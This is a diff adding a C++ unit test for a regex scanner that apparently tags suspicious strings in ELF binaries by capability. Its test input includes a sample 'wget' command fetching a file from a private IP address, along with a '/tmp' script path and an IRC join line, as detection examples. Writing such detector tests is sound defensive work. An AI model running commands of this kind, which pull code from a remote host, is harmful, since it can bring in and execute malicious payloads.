@@ -0,0 +1,28 @@
+#include "gtest/gtest.h"
+#include "../regex_scanner.hpp"
+
+#include <map>
+#include <set>
+#include <string>
+#include <vector>
+
+TEST(RegexScannerTest, default_and_user_rules)
+{
+    RegexScanner scanner;
+    scanner.addDefaultRules();
+    scanner.addRule(elf::k_irc, "#[a-z]+", std::vector<std::string>(1, "#"));
+    scanner.addRule(elf::k_envVariables, "[A-Z]+=/[a-z]+", std::vector<std::string>());
+    scanner.compile();
+
+    const std::string input("\x01wget http://10.1.2.3:8080/x\x01/tmp/a.sh\x01"
+                            "JOIN #chan\x01PATH=/bin\x01https://example.com\x01");
+    std::map<elf::Capabilties, std::set<std::string> > found;
+    scanner.scan(input.data(), input.size(), found);
+
+    EXPECT_EQ(1, found[elf::k_shell].count("wget http://10.1.2.3:8080/x"));
+    EXPECT_EQ(1, found[elf::k_url].count("https://example.com"));
+    EXPECT_EQ(1, found[elf::k_ipAddress].count("10.1.2.3:8080"));
+    EXPECT_EQ(1, found[elf::k_filePath].count("/tmp/a.sh"));
+    EXPECT_EQ(1, found[elf::k_irc].count("#chan"));
+    EXPECT_EQ(1, found[elf::k_envVariables].count("PATH=/bin"));
+}